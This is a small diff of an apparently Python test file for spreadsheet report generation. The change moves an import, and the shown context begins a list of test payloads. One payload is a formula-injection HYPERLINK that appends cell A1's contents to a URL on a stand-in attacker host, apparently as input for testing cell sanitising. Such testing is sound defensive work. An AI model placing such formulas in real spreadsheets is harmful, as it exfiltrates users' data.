@@ -16,8 +16,8 @@ from openpyxl import load_workbook
 
 from qbr.report import workbook_bytes
 from qbr.report.pdf import formatters_for
-from qbr.report.xlsx_cells import MAX_CELL_CHARS, clean_cell_text, utf16_len
-from qbr.report.xlsx_sheet import Book, Column, Sheet, excel_serial
+from qbr.report.xlsx_cells import MAX_CELL_CHARS, clean_cell_text, excel_serial, utf16_len
+from qbr.report.xlsx_sheet import Book, Column, Sheet
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
